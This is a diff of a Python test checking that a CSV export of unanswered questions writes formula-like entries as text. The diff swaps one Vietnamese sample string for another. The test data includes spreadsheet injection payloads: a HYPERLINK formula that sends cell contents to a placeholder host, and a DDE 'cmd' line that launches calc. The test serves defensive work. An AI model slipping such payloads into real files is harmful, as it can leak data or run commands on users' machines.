@@ -344,7 +344,7 @@ async def test_the_unanswered_csv_writes_formula_like_questions_as_text(
 ) -> None:
     asked = [
         '=HYPERLINK("http://example.invalid/?q="&A1;"Bấm vào đây")',
-        "+84 283 817 2459 gọi ai",
+        "+1 thời tiết hôm nay",
         "-2+3 là mấy",
         "@SUM(1+1)*cmd|' /C calc'!A0",
     ]
